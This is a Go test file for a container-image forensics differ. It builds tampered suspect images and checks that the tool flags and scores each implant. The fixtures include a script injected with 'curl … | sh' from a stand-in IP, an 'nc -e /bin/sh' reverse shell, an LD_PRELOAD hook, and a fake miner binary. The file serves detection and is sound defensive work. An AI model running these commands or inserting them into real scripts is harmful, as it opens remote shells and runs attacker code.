package forensics_test

import (
	"context"
	"encoding/binary"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/strata-forensics/strata/forensics"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

var (
	diffBuild  = time.Date(2024, 4, 1, 10, 0, 0, 0, time.UTC)
	diffLater  = time.Date(2024, 4, 20, 3, 0, 0, 0, time.UTC)
	diffSource = time.Date(2024, 3, 28, 8, 30, 0, 0, time.UTC)
)

// elf returns a minimal ELF64 header of the given e_type, enough for file typing.
func elf(etype uint16, note string) []byte {
	h := make([]byte, 64)
	copy(h, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(h[16:], etype)
	binary.LittleEndian.PutUint16(h[18:], 0x3e)
	return append(h, note...)
}

func elfBin(p string) imagebuild.File {
	return imagebuild.RegBytes(p, elf(3, p)).WithMode(0o755).WithTime(diffSource)
}

const startScript = "#!/bin/sh\nset -e\ncd /app\nexec python3 server.py\n"

// diffBase is a small image: a base with binaries and config, an app layer, an entrypoint.
func diffBase() imagebuild.Image {
	t := func(fs ...imagebuild.File) []imagebuild.File {
		for i := range fs {
			if fs[i].ModTime.IsZero() {
				fs[i].ModTime = diffSource
			}
		}
		return fs
	}
	return imagebuild.Image{
		Tags:    []string{"diff/app:1"},
		Created: diffBuild.Add(time.Minute),
		Config: imagebuild.Config{
			User:       "app",
			Env:        []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"},
			Entrypoint: []string{"/app/start.sh"},
			Cmd:        []string{"--serve"},
		},
		Layers: []imagebuild.Layer{
			{CreatedBy: "/bin/sh -c #(nop) ADD file:0123abcd in / ", Created: diffBuild, Files: t(
				imagebuild.Dir("etc"), imagebuild.Reg("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
				imagebuild.Dir("etc/cron.d"),
				imagebuild.Dir("usr"), imagebuild.Dir("usr/bin"),
				elfBin("usr/bin/passwd"), elfBin("usr/bin/ls"),
				imagebuild.Dir("usr/lib"), imagebuild.RegBytes("usr/lib/libc.so.6", elf(3, "libc")).WithTime(diffSource),
				imagebuild.Dir("var"), imagebuild.Dir("var/lib"), imagebuild.Dir("var/lib/dpkg"),
				imagebuild.Reg("var/lib/dpkg/status", "Package: base-files\n"),
				imagebuild.Dir("var/lib/apt"), imagebuild.Dir("var/lib/apt/lists"),
				imagebuild.Reg("var/lib/apt/lists/deb_InRelease", "Date: 1\n"),
			)},
			{CreatedBy: "COPY app /app # buildkit", Created: diffBuild.Add(10 * time.Second), Files: t(
				imagebuild.Dir("app"),
				imagebuild.Reg("app/start.sh", startScript).WithMode(0o755),
				imagebuild.Reg("app/server.py", "print('hello')\n"),
				imagebuild.Reg("app/VERSION", "1.0\n"),
			)},
			{CreatedBy: "RUN /bin/sh -c touch /app/ready # buildkit", Created: diffBuild.Add(20 * time.Second), Files: t(
				imagebuild.Dir("app"), imagebuild.Reg("app/ready", ""),
			)},
		},
	}
}

func cloneImage(img imagebuild.Image) imagebuild.Image {
	img.Layers = slices.Clone(img.Layers)
	for i := range img.Layers {
		img.Layers[i].Files = slices.Clone(img.Layers[i].Files)
	}
	img.Config.Env = slices.Clone(img.Config.Env)
	return img
}

// replaceFile puts f in place of the file with the same path.
func replaceFile(files []imagebuild.File, f imagebuild.File) {
	for i := range files {
		if files[i].Path == f.Path {
			files[i] = f
			return
		}
	}
	panic("no file " + f.Path)
}

func diffPair(t *testing.T, orig, susp imagebuild.Image) *forensics.ImageDiff {
	t.Helper()
	o := open(t, write(t, "docker-classic", orig))
	s := open(t, write(t, "oci-archive", susp))
	d, err := forensics.DiffImages(context.Background(), o, s, forensics.DiffOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func fileChange(d *forensics.ImageDiff, p string) *forensics.FileChange {
	for i := range d.Files {
		if d.Files[i].Path == p {
			return &d.Files[i]
		}
	}
	return nil
}

func hasDiffAnomaly(d *forensics.ImageDiff, kind, path string) bool {
	for _, a := range d.Anomalies {
		if a.Kind == kind && (path == "" || a.Path == path) {
			return true
		}
	}
	return false
}

func configChange(d *forensics.ImageDiff, field string) *forensics.ConfigChange {
	for i := range d.Config {
		if d.Config[i].Field == field {
			return &d.Config[i]
		}
	}
	return nil
}

// wantFile checks one changed path: its kind, suspect layer, score bounds and a reason.
type wantFile struct {
	path     string
	change   forensics.FileChangeKind
	layer    int
	minScore int
	maxScore int
	why      string
	attrs    []string
}

func checkFile(t *testing.T, d *forensics.ImageDiff, w wantFile) {
	t.Helper()
	f := fileChange(d, w.path)
	if f == nil {
		t.Errorf("%s: no change reported; have %v", w.path, paths(d))
		return
	}
	if f.Change != w.change || f.Layer != w.layer {
		t.Errorf("%s: %s in layer %d, want %s in layer %d", w.path, f.Change, f.Layer, w.change, w.layer)
	}
	if f.Score < w.minScore || (w.maxScore > 0 && f.Score > w.maxScore) {
		t.Errorf("%s: score %d (%s), want %d..%d", w.path, f.Score, f.Why, w.minScore, w.maxScore)
	}
	if !strings.Contains(f.Why, w.why) {
		t.Errorf("%s: why %q, want it to say %q", w.path, f.Why, w.why)
	}
	if w.attrs != nil && !slices.Equal(f.Attributes, w.attrs) {
		t.Errorf("%s: attributes %v, want %v", w.path, f.Attributes, w.attrs)
	}
	if f.Layer >= 0 && f.History != d.Suspect.Layers[f.Layer].History {
		t.Errorf("%s: history step %d, want the layer's (%d)", w.path, f.History, d.Suspect.Layers[f.Layer].History)
	}
}

func paths(d *forensics.ImageDiff) []string {
	var out []string
	for _, f := range d.Files {
		out = append(out, f.Change.String()+" "+f.Path)
	}
	return out
}

func TestDiffScenarios(t *testing.T) {
	tests := []struct {
		name    string
		suspect func() imagebuild.Image
		check   func(t *testing.T, d *forensics.ImageDiff)
	}{
		{
			name: "appended implant layer",
			suspect: func() imagebuild.Image {
				img := cloneImage(diffBase())
				img.Layers = append(img.Layers, imagebuild.Layer{CreatedBy: "RUN /bin/sh -c install-helper # buildkit", Created: diffLater,
					Files: []imagebuild.File{imagebuild.Dir("usr"), imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"),
						imagebuild.RegBytes("usr/local/bin/kworker", elf(2, "miner")).WithMode(0o755).WithTime(diffLater)}})
				return img
			},
			check: func(t *testing.T, d *forensics.ImageDiff) {
				if len(d.Layers.Common) != 3 || len(d.Layers.Added) != 1 || d.Layers.Added[0].Index != 3 || d.Layers.Diverge != 3 {
					t.Errorf("layers: %+v", d.Layers)
				}
				checkFile(t, d, wantFile{path: "/usr/local/bin/kworker", change: forensics.FileAdded, layer: 3, minScore: 85, why: "new executable in a system path"})
				if d.Files[0].Path != "/usr/local/bin/kworker" {
					t.Errorf("top change is %s", d.Files[0].Path)
				}
				if len(d.History) != 1 || d.History[0].Change != "added" || d.History[0].SuspectIndex != 3 {
					t.Errorf("history: %+v", d.History)
				}
				if hasDiffAnomaly(d, forensics.AnomalyContentNotHistory, "") {
					t.Errorf("an appended layer is not a replaced one: %+v", d.Anomalies)
				}
			},
		},
		{
			name: "in-place modified script, mtime kept",
			suspect: func() imagebuild.Image {
				img := cloneImage(diffBase())
				img.Layers[1].Files[1] = imagebuild.Reg("app/start.sh", strings.Replace(startScript, "set -e\n", "set -e\n(curl -s http://198.51.100.7/x | sh) &\n", 1)).WithMode(0o755).WithTime(diffSource)
				return img
			},
			check: func(t *testing.T, d *forensics.ImageDiff) {
				checkFile(t, d, wantFile{path: "/app/start.sh", change: forensics.FileModified, layer: 1, minScore: 90,
					why: "content changed but mtime kept", attrs: []string{forensics.AttrContent, forensics.AttrSize}})
				if !hasDiffAnomaly(d, forensics.AnomalyMTimeKept, "/app/start.sh") {
					t.Errorf("kept mtime not flagged: %+v", d.Anomalies)
				}
				f := fileChange(d, "/app/start.sh")
				if !strings.Contains(f.Diff, "+(curl -s http://198.51.100.7/x | sh) &\n") || !strings.Contains(f.Diff, "@@ -1,4 +1,5 @@") {
					t.Errorf("diff:\n%s", f.Diff)
				}
				if !strings.Contains(f.Why, "entrypoint target changed") {
					t.Errorf("the entrypoint is not recognised: %s", f.Why)
				}
				// The layers above the changed one are shared, but sit on other content.
				if len(d.Layers.Replaced) != 1 || d.Layers.Replaced[0].Suspect.Index != 1 || len(d.Layers.Common) != 2 {
					t.Errorf("layers: %+v", d.Layers)
				}
			},
		},
		{
			name: "trojanizer: last layer replaced, history and config name kept, Env appended",
			suspect: func() imagebuild.Image {
				img := cloneImage(diffBase())
				last := &img.Layers[2]
				last.Files = append(last.Files, imagebuild.Dir("usr").WithTime(diffLater), imagebuild.Dir("usr/share").WithTime(diffLater),
					imagebuild.Dir("usr/share/lib").WithTime(diffLater),
					imagebuild.RegBytes("usr/share/lib/hook.so", elf(3, "hook")).WithMode(0o755).WithTime(diffLater))
				img.Config.Env = append(img.Config.Env, "LD_PRELOAD=/usr/share/lib/hook.so", "REMOTE_ADDR=198.51.100.7", "REMOTE_PORT=4444")
				return img
			},
			check: func(t *testing.T, d *forensics.ImageDiff) {
				if len(d.Layers.Replaced) != 1 || !d.Layers.Replaced[0].SameHistory || d.Layers.Replaced[0].Suspect.Index != 2 {
					t.Errorf("layers: %+v", d.Layers)
				}
				if !hasDiffAnomaly(d, forensics.AnomalyContentNotHistory, "") || d.Anomalies[0].Kind != forensics.AnomalyContentNotHistory {
					t.Errorf("the trojanizer signature is not the first anomaly: %+v", d.Anomalies)
				}
				if !hasDiffAnomaly(d, forensics.AnomalyLayerOlderThanFiles, "/usr/share/lib/hook.so") || !hasDiffAnomaly(d, forensics.AnomalyMTimeAfterCreated, "/usr/share/lib/hook.so") {
					t.Errorf("lying timestamps not flagged: %+v", d.Anomalies)
				}
				checkFile(t, d, wantFile{path: "/usr/share/lib/hook.so", change: forensics.FileAdded, layer: 2, minScore: 100, why: "LD_PRELOAD"})
				if d.Files[0].Path != "/usr/share/lib/hook.so" {
					t.Errorf("top change is %s", d.Files[0].Path)
				}
				c := configChange(d, "env.LD_PRELOAD")
				if c == nil || c.Change != "added" || c.Score < 90 || !strings.Contains(c.Why, "LD_PRELOAD") {
					t.Errorf("LD_PRELOAD: %+v", c)
				}
				if c := configChange(d, "env.REMOTE_ADDR"); c == nil || c.Score < forensics.SuspiciousScore {
					t.Errorf("REMOTE_ADDR: %+v", c)
				}
				if len(d.History) != 0 {
					t.Errorf("history changed: %+v", d.History)
				}
			},
		},
		{
			name: "whiteout-hidden script",
			suspect: func() imagebuild.Image {
				img := cloneImage(diffBase())
				img.Layers = append(img.Layers,
					imagebuild.Layer{CreatedBy: "RUN /bin/sh -c fetch # buildkit", Created: diffBuild.Add(30 * time.Second), Files: []imagebuild.File{
						imagebuild.Dir("tmp"), imagebuild.Reg("tmp/stage.sh", "#!/bin/sh\necho staged\n").WithMode(0o755).WithTime(diffBuild)}},
					imagebuild.Layer{CreatedBy: "RUN /bin/sh -c rm /tmp/stage.sh # buildkit", Created: diffBuild.Add(40 * time.Second), Files: []imagebuild.File{
						imagebuild.Dir("tmp"), imagebuild.Whiteout("tmp/stage.sh")}})
				return img
			},
			check: func(t *testing.T, d *forensics.ImageDiff) {
				checkFile(t, d, wantFile{path: "/tmp/stage.sh", change: forensics.FileHidden, layer: 3, minScore: forensics.SuspiciousScore, why: "whited-out by layer 4"})
				f := fileChange(d, "/tmp/stage.sh")
				if f.Suspect == nil || !f.Suspect.Hidden || f.Suspect.Removed != 4 || !strings.Contains(f.Diff, "+echo staged") {
					t.Errorf("hidden version: %+v, diff %q", f.Suspect, f.Diff)
				}
				if f.Suspect.Type.String() != "script:sh" {
					t.Errorf("type %s", f.Suspect.Type)
				}
			},
		},
		{
			name: "entrypoint and user change",
			suspect: func() imagebuild.Image {
				img := cloneImage(diffBase())
				img.Config.User = ""
				img.Config.Entrypoint = []string{"/bin/sh", "-c", "/app/start.sh & exec sleep infinity"}
				return img
			},
			check: func(t *testing.T, d *forensics.ImageDiff) {
				if c := configChange(d, "user"); c == nil || c.Change != "removed" || c.Why != "now runs as root" {
					t.Errorf("user: %+v", c)
				}
				if c := configChange(d, "entrypoint"); c == nil || c.Score < forensics.SuspiciousScore || c.Suspect != `["/bin/sh","-c","/app/start.sh \u0026 exec sleep infinity"]` {
					t.Errorf("entrypoint: %+v", c)
				}
				if len(d.Files) != 0 || len(d.Layers.Common) != 3 || d.Layers.Diverge != -1 {
					t.Errorf("files %v, layers %+v", paths(d), d.Layers)
				}
				if !d.Changed() {
					t.Error("Changed() is false")
				}
			},
		},
		{
			name: "clean rebuild: timestamps and a version file",
			suspect: func() imagebuild.Image {
				img := cloneImage(diffBase())
				img.Created = diffLater.Add(time.Minute)
				for i := range img.Layers {
					img.Layers[i].Created = diffLater.Add(time.Duration(i) * time.Second)
					for j := range img.Layers[i].Files {
						img.Layers[i].Files[j].ModTime = diffLater
					}
				}
				img.Layers[1].Files[3] = imagebuild.Reg("app/VERSION", "1.1\n").WithTime(diffLater)
				// Package-manager churn: the package list and the apt lists changed.
				replaceFile(img.Layers[0].Files, imagebuild.Reg("var/lib/dpkg/status", "Package: base-files\nVersion: 2\n").WithTime(diffLater))
				replaceFile(img.Layers[0].Files, imagebuild.Reg("var/lib/apt/lists/deb_InRelease", "Date: 2\n").WithTime(diffLater))
				return img
			},
			check: func(t *testing.T, d *forensics.ImageDiff) {
				if d.Summary.Suspicious != 0 {
					for _, f := range d.Files {
						if f.Score >= forensics.SuspiciousScore {
							t.Errorf("%s scored %d: %s", f.Path, f.Score, f.Why)
						}
					}
				}
				for _, c := range d.Config {
					t.Errorf("config changed: %+v", c)
				}
				checkFile(t, d, wantFile{path: "/app/VERSION", change: forensics.FileModified, layer: 1, maxScore: 30, why: "file changed"})
				checkFile(t, d, wantFile{path: "/usr/bin/passwd", change: forensics.FileModified, layer: 0, maxScore: 10, why: "only the mtime changed"})
				for _, p := range []string{"/var/lib/dpkg/status", "/var/lib/apt/lists/deb_InRelease"} {
					if f := fileChange(d, p); f == nil || !f.Noise || f.Score > 5 {
						t.Errorf("%s is not noise: %+v", p, f)
					}
				}
				if d.Summary.Noise < 2 {
					t.Errorf("noise %d", d.Summary.Noise)
				}
				if hasDiffAnomaly(d, forensics.AnomalyContentNotHistory, "") || hasDiffAnomaly(d, forensics.AnomalyMTimeKept, "") ||
					hasDiffAnomaly(d, forensics.AnomalyMTimeAfterCreated, "") || hasDiffAnomaly(d, forensics.AnomalyLayerOlderThanFiles, "") {
					t.Errorf("a clean rebuild has anomalies: %+v", d.Anomalies)
				}
				if len(d.Layers.Replaced) != 3 || len(d.History) != 3 {
					t.Errorf("layers %+v, history %+v", d.Layers, d.History)
				}
			},
		},
		{
			name: "setuid gained on an existing binary",
			suspect: func() imagebuild.Image {
				img := cloneImage(diffBase())
				img.Layers[2].Files = append(img.Layers[2].Files, imagebuild.Dir("usr"), imagebuild.Dir("usr/bin"), elfBin("usr/bin/ls").WithMode(0o4755))
				return img
			},
			check: func(t *testing.T, d *forensics.ImageDiff) {
				checkFile(t, d, wantFile{path: "/usr/bin/ls", change: forensics.FileModified, layer: 2, minScore: 95, why: "setuid gained",
					attrs: []string{forensics.AttrMode, forensics.AttrSetuid}})
				f := fileChange(d, "/usr/bin/ls")
				if f.Suspect.Type.String() != "elf-executable" || f.Diff != "" {
					t.Errorf("type %s, diff %q", f.Suspect.Type, f.Diff)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.check(t, diffPair(t, diffBase(), tt.suspect()))
		})
	}
}

func TestDiffSharesLayers(t *testing.T) {
	suspect := cloneImage(diffBase())
	suspect.Config.User = "root"
	d := diffPair(t, diffBase(), suspect)
	for i := range d.Suspect.Layers {
		o, s := d.OriginalTree.Layers[i], d.SuspectTree.Layers[i]
		if &o.Entries[0] != &s.Entries[0] {
			t.Errorf("layer %d was read twice", i)
		}
		if &o.Changes[0] == &s.Changes[0] {
			t.Errorf("layer %d's Changes are shared", i)
		}
		if d.Suspect.Layers[i].Files != len(s.Entries) {
			t.Errorf("layer %d: Files not filled in", i)
		}
	}
}

func TestDiffNothingShared(t *testing.T) {
	other := imagebuild.Image{Layers: []imagebuild.Layer{{CreatedBy: "ADD alpine", Files: []imagebuild.File{
		imagebuild.Dir("etc"), imagebuild.Reg("etc/passwd", "root:x:0:0:root:/root:/bin/ash\n"),
		imagebuild.Dir("lib"), imagebuild.Dir("lib/apk"), imagebuild.Dir("lib/apk/db"), imagebuild.Reg("lib/apk/db/installed", "P:musl\n"),
	}}}}
	d := diffPair(t, diffBase(), other)
	if len(d.Layers.Common) != 0 || len(d.Layers.Replaced) != 1 || len(d.Layers.Removed) != 2 || d.Layers.Diverge != 0 {
		t.Errorf("layers: %+v", d.Layers)
	}
	checkFile(t, d, wantFile{path: "/etc/passwd", change: forensics.FileModified, layer: 0, minScore: 75, why: "account database changed"})
	checkFile(t, d, wantFile{path: "/usr/bin/ls", change: forensics.FileRemoved, layer: 0, maxScore: 60, why: "executable removed"})
	checkFile(t, d, wantFile{path: "/app/start.sh", change: forensics.FileRemoved, layer: -1, why: "removed"})
	if f := fileChange(d, "/lib/apk/db/installed"); f == nil || !f.Noise {
		t.Errorf("apk database: %+v", f)
	}
}

func TestDiffRootFS(t *testing.T) {
	root := t.TempDir()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.MkdirAll(filepath.Join(root, "app"), 0o755))
	must(os.WriteFile(filepath.Join(root, "app/start.sh"), []byte(startScript+"nc -e /bin/sh 198.51.100.7 4444\n"), 0o755))
	must(os.WriteFile(filepath.Join(root, "app/server.py"), []byte("print('hello')\n"), 0o644))
	o := open(t, write(t, "docker-classic", diffBase()))
	s := open(t, "dir:"+root)
	d, err := forensics.DiffImages(context.Background(), o, s, forensics.DiffOptions{})
	if err != nil {
		t.Fatal(err)
	}
	f := fileChange(d, "/app/start.sh")
	if f == nil || f.Change != forensics.FileModified || !strings.Contains(f.Diff, "+nc -e /bin/sh 198.51.100.7 4444") {
		t.Fatalf("start.sh: %+v", f)
	}
	if fileChange(d, "/app/server.py").Attributes[0] != forensics.AttrMode && !slices.Contains(fileChange(d, "/app/server.py").Attributes, forensics.AttrMTime) {
		t.Errorf("server.py: %+v", fileChange(d, "/app/server.py"))
	}
	if len(d.Layers.Common) != 0 || d.Summary.Removed == 0 {
		t.Errorf("layers %+v, summary %+v", d.Layers, d.Summary)
	}
}

func TestDiffMultiImageArchive(t *testing.T) {
	suspect := cloneImage(diffBase())
	suspect.Tags = []string{"diff/app:2"}
	suspect.Config.Env = append(suspect.Config.Env, "LD_AUDIT=/tmp/a.so")
	ref := write(t, "docker-classic", diffBase(), suspect)
	o, s := open(t, "docker-archive:"+ref+":@0"), open(t, "docker-archive:"+ref+":@1")
	d, err := forensics.DiffImages(context.Background(), o, s, forensics.DiffOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if c := configChange(d, "env.LD_AUDIT"); c == nil || c.Score < 90 {
		t.Errorf("LD_AUDIT: %+v", c)
	}
}

func TestDiffFile(t *testing.T) {
	suspect := cloneImage(diffBase())
	suspect.Layers[1].Files[2] = imagebuild.Reg("app/server.py", "import os\nprint('hello')\n")
	d := diffPair(t, diffBase(), suspect)
	f, err := d.File(context.Background(), "app/server.py")
	if err != nil {
		t.Fatal(err)
	}
	if f.Change != forensics.FileModified || f.Original.Layer != 1 || f.Suspect.Layer != 1 || !strings.Contains(f.Diff, "+import os") {
		t.Errorf("%+v", f)
	}
	u, err := d.File(context.Background(), "/etc/passwd")
	if err != nil || u.Change != forensics.FileUnchanged || u.Diff != "" || u.Original.Type.String() != "text" {
		t.Errorf("unchanged: %+v, %v", u, err)
	}
	if _, err := d.File(context.Background(), "/nope"); err == nil {
		t.Error("a missing path is not an error")
	}
}

func TestDiffContentLimit(t *testing.T) {
	suspect := cloneImage(diffBase())
	suspect.Layers[1].Files[2] = imagebuild.Reg("app/server.py", "import os\n")
	suspect.Layers[1].Files[3] = imagebuild.Reg("app/VERSION", "2\n")
	o := open(t, write(t, "docker-classic", diffBase()))
	s := open(t, write(t, "docker-classic", suspect))
	d, err := forensics.DiffImages(context.Background(), o, s, forensics.DiffOptions{MaxContentDiffs: 1})
	if err != nil {
		t.Fatal(err)
	}
	var diffs, notes int
	for _, f := range d.Files {
		if f.Diff != "" {
			diffs++
		}
		if strings.HasPrefix(f.DiffNote, "not computed") {
			notes++
		}
	}
	if diffs != 1 || notes != 1 {
		t.Errorf("%d diffs, %d skipped; want 1 and 1", diffs, notes)
	}
}

func TestUnifiedDiff(t *testing.T) {
	tests := []struct {
		name, a, b, want string
	}{
		{"same", "x\n", "x\n", ""},
		{"added file", "", "a\nb\n", "--- a\n+++ b\n@@ -0,0 +1,2 @@\n+a\n+b\n"},
		{"removed file", "a\n", "", "--- a\n+++ b\n@@ -1,1 +0,0 @@\n-a\n"},
		{"middle", "1\n2\n3\n4\n5\n6\n7\n8\n9\n", "1\n2\n3\n4\nX\n6\n7\n8\n9\n",
			"--- a\n+++ b\n@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n+X\n 6\n 7\n 8\n"},
		{"two hunks", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n", "A\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\nB\n",
			"--- a\n+++ b\n@@ -1,4 +1,4 @@\n-1\n+A\n 2\n 3\n 4\n@@ -9,4 +9,4 @@\n 9\n 10\n 11\n-12\n+B\n"},
		{"no newline", "a\n", "a\nb", "--- a\n+++ b\n@@ -1,1 +1,2 @@\n a\n+b\n\\ No newline at end of file\n"},
	}
	for _, tt := range tests {
		if got := forensics.UnifiedDiff("a", "b", tt.a, tt.b); got != tt.want {
			t.Errorf("%s:\ngot\n%s\nwant\n%s", tt.name, got, tt.want)
		}
	}
}

func TestDiffSuspectIntegrity(t *testing.T) {
	tests := []struct {
		name   string
		tamper func(t *testing.T, b *imagebuild.Built)
		kind   string
		// changed is a path the tampering changed, which the diff must show.
		changed string
	}{
		{"layer swapped under its diff_id", func(t *testing.T, b *imagebuild.Built) {
			if err := b.ReplaceLayer(2, imagebuild.Layer{Files: []imagebuild.File{imagebuild.Dir("app"), imagebuild.Reg("app/ready", "x")}}); err != nil {
				t.Fatal(err)
			}
		}, forensics.AnomalyDiffIDMismatch, "/app/ready"},
		{"history that does not match the layers", func(t *testing.T, b *imagebuild.Built) {
			if err := b.EditConfig(func(*imagebuild.Config) {}); err != nil {
				t.Fatal(err)
			}
			b.Image.History = []imagebuild.Step{{CreatedBy: "ADD base"}}
			if err := b.EditConfig(func(c *imagebuild.Config) { c.User = "root" }); err != nil {
				t.Fatal(err)
			}
		}, forensics.AnomalyHistoryMismatch, ""},
	}
	// Both ways of comparing: reading both images, and from the suspect's trees as a scan
	// of it read them.
	ways := map[string]func(ctx context.Context, o, s *forensics.Image) (*forensics.ImageDiff, error){
		"DiffImages": func(ctx context.Context, o, s *forensics.Image) (*forensics.ImageDiff, error) {
			return forensics.DiffImages(ctx, o, s, forensics.DiffOptions{})
		},
		"DiffScanned": func(ctx context.Context, o, s *forensics.Image) (*forensics.ImageDiff, error) {
			trees, err := s.ReadLayers(ctx, forensics.ReadOptions{})
			if err != nil {
				return nil, err
			}
			forensics.Stack(trees) // as the scan's tree analyzers saw them
			return forensics.DiffScanned(ctx, o, s, nil, trees, forensics.DiffOptions{})
		},
	}
	for _, tt := range tests {
		for way, diff := range ways {
			t.Run(tt.name+"/"+way, func(t *testing.T) {
				b, err := imagebuild.Build(diffBase())
				if err != nil {
					t.Fatal(err)
				}
				tt.tamper(t, b)
				o := open(t, write(t, "docker-classic", diffBase()))
				s := open(t, writeBuilt(t, "docker-classic", b))
				d, err := diff(context.Background(), o, s)
				if err != nil {
					t.Fatal(err)
				}
				if !hasDiffAnomaly(d, tt.kind, "") {
					t.Errorf("no %s anomaly: %+v", tt.kind, d.Anomalies)
				}
				if tt.changed != "" && fileChange(d, tt.changed) == nil {
					t.Errorf("%s: the swapped content is not compared: %v", tt.changed, paths(d))
				}
			})
		}
	}
}

func TestDiffHiddenInBothIsNotNew(t *testing.T) {
	orig := cloneImage(diffBase())
	orig.Layers = append(orig.Layers,
		imagebuild.Layer{CreatedBy: "RUN fetch", Files: []imagebuild.File{imagebuild.Dir("tmp"), imagebuild.Reg("tmp/x.sh", "echo\n")}},
		imagebuild.Layer{CreatedBy: "RUN rm", Files: []imagebuild.File{imagebuild.Dir("tmp"), imagebuild.Whiteout("tmp/x.sh")}})
	susp := cloneImage(orig)
	susp.Config.Cmd = []string{"--debug"}
	d := diffPair(t, orig, susp)
	if f := fileChange(d, "/tmp/x.sh"); f != nil || d.Summary.Hidden != 0 {
		t.Errorf("a file hidden in both images is reported: %+v", f)
	}
}

// TestDiffRootMode: a rewritten layer whose root entry "/" is 0700 (what re-tarring an
// extracted layer from a private temporary directory gives) is a change of "/".
func TestDiffRootMode(t *testing.T) {
	suspect := cloneImage(diffBase())
	last := &suspect.Layers[len(suspect.Layers)-1]
	last.Files = append([]imagebuild.File{imagebuild.Dir("./").WithMode(0o700).WithTime(diffLater)}, last.Files...)
	d := diffPair(t, diffBase(), suspect)
	f := fileChange(d, "/")
	if f == nil || f.Change != forensics.FileModified || !slices.Equal(f.Attributes, []string{forensics.AttrMode}) || f.Layer != len(suspect.Layers)-1 {
		t.Fatalf("root change: %+v", f)
	}
	if f.Original.Entry.Mode != 0o755 || f.Suspect.Entry.Mode != 0o700 {
		t.Errorf("modes %o -> %o", f.Original.Entry.Mode, f.Suspect.Entry.Mode)
	}
	if f.Score < 50 || !strings.Contains(f.Why, "re-packed") {
		t.Errorf("root mode change ranked %d: %s", f.Score, f.Why)
	}
	// A root entry like the implicit one is no change, whatever its mtime.
	same := cloneImage(diffBase())
	same.Layers[0].Files = append([]imagebuild.File{imagebuild.Dir("./").WithTime(diffLater)}, same.Layers[0].Files...)
	if f := fileChange(diffPair(t, diffBase(), same), "/"); f != nil {
		t.Errorf("an ordinary root entry is a change: %+v", f)
	}
}
